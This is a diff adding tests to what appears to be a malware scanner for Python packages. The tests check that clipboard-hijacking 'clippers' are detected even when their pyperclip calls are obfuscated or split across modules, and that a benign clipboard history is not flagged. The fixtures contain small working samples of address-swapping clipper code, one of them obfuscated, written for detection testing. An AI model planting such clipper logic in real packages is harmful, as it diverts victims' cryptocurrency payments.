@@ -161,3 +161,38 @@ test('a clipboard tool that tells addresses of mail apart stays silent', async (
 
   expect(await inspect('spyware', file)).toEqual([]);
 });
+
+test('a clipper is one in whatever way the clipboard is asked, and wherever the address is put into it', async () => {
+  const spelled = wheel({
+    'pkg/__init__.py': python(
+      'import pyperclip, re',
+      'def watch():',
+      "    if re.match('^0x[a-fA-F0-9]{40}$', getattr(pyperclip, 'pa' + 'ste')()):",
+      "        getattr(pyperclip, 'co' + 'py')('0x' + '0' * 40)",
+      'watch()',
+    ),
+  });
+  const spread = wheel({
+    'pkg/__init__.py': python('from . import look, put', 'if look.seen():', "    put.back('0x' + '0' * 40)"),
+    'pkg/look.py': python('import pyperclip', 'def seen():', '    return len(pyperclip.paste()) == 42'),
+    'pkg/put.py': python('import pyperclip', 'def back(text):', '    pyperclip.copy(text)'),
+  });
+
+  expect(await inspect('spyware', spelled)).toMatchObject([{ class: 'malware', score: 10 }]);
+  expect(await inspect('spyware', spread)).toContainEqual(expect.objectContaining({ class: 'malware', score: 10 }));
+});
+
+test('a history of the clipboard that puts back what was copied is silent', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import pyperclip',
+      'seen = []',
+      'def watch():',
+      '    seen.append(pyperclip.paste())',
+      'def back(n):',
+      '    pyperclip.copy(seen[n])',
+    ),
+  });
+
+  expect(await inspect('spyware', file)).toEqual([]);
+});
